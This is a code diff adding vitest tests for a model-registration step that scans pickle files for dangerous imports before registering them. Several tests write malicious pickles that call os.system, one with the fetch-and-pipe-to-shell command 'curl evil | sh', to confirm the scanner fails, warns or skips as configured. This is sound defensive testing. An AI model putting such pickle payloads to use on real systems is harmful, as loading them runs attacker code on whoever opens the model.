@@ -1,16 +1,23 @@
-import { mkdtempSync, writeFileSync } from "node:fs";
+import { spawnSync } from "node:child_process";
+import { existsSync, mkdtempSync, writeFileSync } from "node:fs";
 import os from "node:os";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
+import { runContextFromEnv, silentLogger } from "@mlops/core";
+import { openRegistry } from "@mlops/registry";
 import { memoryActionIO } from "@mlops/testkit";
+import { bytes, callPickle, PROTO, STOP, uni } from "../../../packages/scan/test-support/builders.js";
 import { main } from "./main.js";
+
+/** A pickle of one string: what a loader reads without importing anything (model-scan: safe). */
+const pickledText = (text: string): Buffer => bytes(PROTO(2), uni(text), STOP);
 
 // register-model's main in-process over an in-memory StepIO and the local registry (the bundle:
 // test/registry).
 
 function workspace(): string {
   const dir = mkdtempSync(path.join(os.tmpdir(), "mlops-register-main-"));
-  writeFileSync(path.join(dir, "model.pkl"), "pickled forest");
+  writeFileSync(path.join(dir, "model.pkl"), pickledText("pickled forest"));
   writeFileSync(path.join(dir, "metrics.json"), JSON.stringify({ accuracy: 0.9 }));
   return dir;
 }
@@ -34,7 +41,7 @@ describe("register-model main", () => {
     const same = memoryActionIO(inputs);
     await main({ io: same, env: { GITHUB_WORKSPACE: dir } });
     expect([same.outputs.version, same.outputs.created]).toEqual(["1", "false"]);
-    writeFileSync(path.join(dir, "model.pkl"), "pickled forest, retrained");
+    writeFileSync(path.join(dir, "model.pkl"), pickledText("pickled forest, retrained"));
     const second = memoryActionIO(inputs);
     await main({ io: second, env: { GITHUB_WORKSPACE: dir } });
     expect([second.outputs.version, second.outputs.created]).toEqual(["2", "true"]);
@@ -49,5 +56,125 @@ describe("register-model main", () => {
     const missing = memoryActionIO({ ...inputs, model: "" });
     await main({ io: missing, env: { GITHUB_WORKSPACE: dir } });
     expect(missing.failed?.message).toMatch(/^input 'model' is required/);
+  });
+
+  describe("model-scan", () => {
+    const PYTHON = process.env.MLOPS_SCAN_PYTHON ?? "/usr/bin/python3";
+    const sklearn = spawnSync(PYTHON, ["-c", "import sklearn"], { encoding: "utf8" }).status === 0;
+
+    /** The versions of `weather` the registry lists. */
+    async function versions(dir: string): Promise<number[]> {
+      const registry = await openRegistry({
+        backend: "local",
+        path: path.join(dir, "reg"),
+        ctx: { ...runContextFromEnv({}), workspace: dir },
+        logger: silentLogger,
+      });
+      return (await registry.list("weather")).map((v) => v.number);
+    }
+
+    it.skipIf(!sklearn)(
+      "a real fitted scikit-learn pickle registers with scan.verdict safe stored",
+      async () => {
+        const dir = workspace();
+        const made = spawnSync(
+          PYTHON,
+          [
+            "-c",
+            [
+              "import pickle, sys",
+              "from sklearn.datasets import make_classification",
+              "from sklearn.ensemble import RandomForestClassifier",
+              "X, y = make_classification(n_samples=60, n_features=4, random_state=0)",
+              "m = RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y)",
+              "pickle.dump(m, open(sys.argv[1], 'wb'), protocol=4)",
+            ].join("\n"),
+            path.join(dir, "model.pkl"),
+          ],
+          { encoding: "utf8" },
+        );
+        expect(made.stderr).toBe("");
+        const io = memoryActionIO(inputs);
+        await main({ io, env: { GITHUB_WORKSPACE: dir } });
+        expect(io.failed).toBeNull();
+        expect(io.outputs.version).toBe("1");
+        expect(io.summary).toMatch(/model scan: safe — \d+ globals, all on the allowlist/);
+        const registry = await openRegistry({
+          backend: "local",
+          path: path.join(dir, "reg"),
+          ctx: { ...runContextFromEnv({}), workspace: dir },
+          logger: silentLogger,
+        });
+        const version = await registry.resolve("weather", "1");
+        expect(version.scan?.verdict).toBe("safe");
+        expect(version.scan?.globals.map((g) => `${g.module}.${g.name}`)).toContain(
+          "sklearn.ensemble._forest.RandomForestClassifier",
+        );
+        expect(version.scan?.globals.every((g) => g.severity === "safe")).toBe(true);
+      },
+    );
+
+    it("a pickle that REDUCEs os.system fails the step, names the global and registers nothing", async () => {
+      const dir = workspace();
+      const fresh = memoryActionIO(inputs);
+      await main({ io: fresh, env: { GITHUB_WORKSPACE: dir } });
+      expect(await versions(dir)).toEqual([1]);
+      writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "curl evil | sh"));
+      const io = memoryActionIO(inputs);
+      await main({ io, env: { GITHUB_WORKSPACE: dir } });
+      expect(io.failed?.message).toMatch(
+        /^model\.pkl: imports os\.system \(dangerous: .+\); registered nothing/,
+      );
+      expect(io.outputs).toEqual({});
+      expect(
+        io.logger.entries.some(
+          (l) => l.level === "error" && /model scan: model\.pkl .*os\.system/.test(l.message),
+        ),
+      ).toBe(true);
+      // Nothing was staged or indexed: the registry still lists version 1 only.
+      expect(await versions(dir)).toEqual([1]);
+      // Into an empty registry: it is not even created.
+      const empty = workspace();
+      writeFileSync(path.join(empty, "model.pkl"), callPickle("os", "system", "id"));
+      const again = memoryActionIO(inputs);
+      await main({ io: again, env: { GITHUB_WORKSPACE: empty } });
+      expect(again.failed?.message).toMatch(/^model\.pkl: imports os\.system/);
+      expect(existsSync(path.join(empty, "reg"))).toBe(false);
+    });
+
+    it("model-scan: warn registers the same file with a warning; off skips with a log line", async () => {
+      const dir = workspace();
+      writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "id"));
+      const io = memoryActionIO({ ...inputs, "model-scan": "warn" });
+      await main({ io, env: { GITHUB_WORKSPACE: dir } });
+      expect(io.failed).toBeNull();
+      expect(io.outputs.version).toBe("1");
+      expect(io.logger.entries.some((l) => l.level === "warning" && /os\.system/.test(l.message))).toBe(true);
+      expect(io.summary).toMatch(
+        /model scan: dangerous — 1 global in 1 file; model\.pkl: imports os\.system/,
+      );
+      const off = memoryActionIO({ ...inputs, "model-scan": "off", aliases: "staging" });
+      await main({ io: off, env: { GITHUB_WORKSPACE: dir } });
+      expect(off.failed).toBeNull();
+      expect(off.logger.entries.some((l) => /model scan: off/.test(l.message))).toBe(true);
+      const bad = memoryActionIO({ ...inputs, "model-scan": "maybe" });
+      await main({ io: bad, env: { GITHUB_WORKSPACE: dir } });
+      expect(bad.failed?.message).toBe(
+        `input 'model-scan': expected one of 'fail', 'warn', 'off', found "maybe"`,
+      );
+    });
+
+    it("mlops.yml register.model-scan is the default; a bad or truncated file is an error that fails", async () => {
+      const dir = workspace();
+      writeFileSync(path.join(dir, "model.pkl"), pickledText("x").subarray(0, 5));
+      const io = memoryActionIO(inputs);
+      await main({ io, env: { GITHUB_WORKSPACE: dir } });
+      expect(io.failed?.message).toMatch(/^model\.pkl: error: .*truncated.*; registered nothing/);
+      writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nregister:\n  model-scan: warn\n");
+      const warned = memoryActionIO({ ...inputs, config: path.join(dir, "mlops.yml") });
+      await main({ io: warned, env: { GITHUB_WORKSPACE: dir } });
+      expect(warned.failed).toBeNull();
+      expect(warned.outputs.version).toBe("1");
+    });
   });
 });
